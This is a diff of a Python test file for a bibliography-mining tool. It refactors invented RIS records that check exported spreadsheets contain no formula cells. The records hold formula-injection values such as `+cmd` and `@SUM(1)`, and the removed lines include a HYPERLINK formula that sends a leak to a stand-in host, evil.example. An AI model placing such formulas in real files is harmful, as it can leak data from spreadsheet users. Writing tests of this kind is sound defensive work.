@@ -251,28 +251,14 @@ def test_xlsx_holds_formula_text_as_text(coefficients, tmp_path):
 
 # ---------------------------------------------------------------- a whole study
 
-INJECTED_STUDY_FILE = """TY  - JOUR
-TI  - =HYPERLINK("http://evil.example/?leak","click")
-AU  - -2+3
-AD  - Lipetsk State Technical University, Lipetsk, Russia
-KW  - +cmd
-KW  - @SUM(1)
-KW  - -2+3
-PY  - 2022
-DO  - 10.5555/bibmine.inject.1
-ER  -
+def injected_ris(n: int, title: str, author: str) -> str:
+    """An INVENTED RIS record from Lipetsk whose keywords are all formulas."""
+    return (f"TY  - JOUR\nTI  - {title}\nAU  - {author}\n"
+            "AD  - Lipetsk State Technical University, Lipetsk, Russia\n"
+            f"KW  - +cmd\nKW  - @SUM(1)\nKW  - -2+3\nPY  - {2021 + n}\nDO  - 10.5555/bibmine.inject.{n}\nER  -\n")
 
-TY  - JOUR
-TI  - -2+3 soil carbon
-AU  - @Petrov, P.
-AD  - Lipetsk State Technical University, Lipetsk, Russia
-KW  - +cmd
-KW  - @SUM(1)
-KW  - -2+3
-PY  - 2023
-DO  - 10.5555/bibmine.inject.2
-ER  -
-"""
+
+INJECTED_STUDY_FILE = injected_ris(1, LINK, "-2+3") + "\n" + injected_ris(2, "-2+3 soil carbon", "@Petrov, P.")
 
 
 def test_no_file_of_a_study_holds_a_formula_cell(tmp_path):
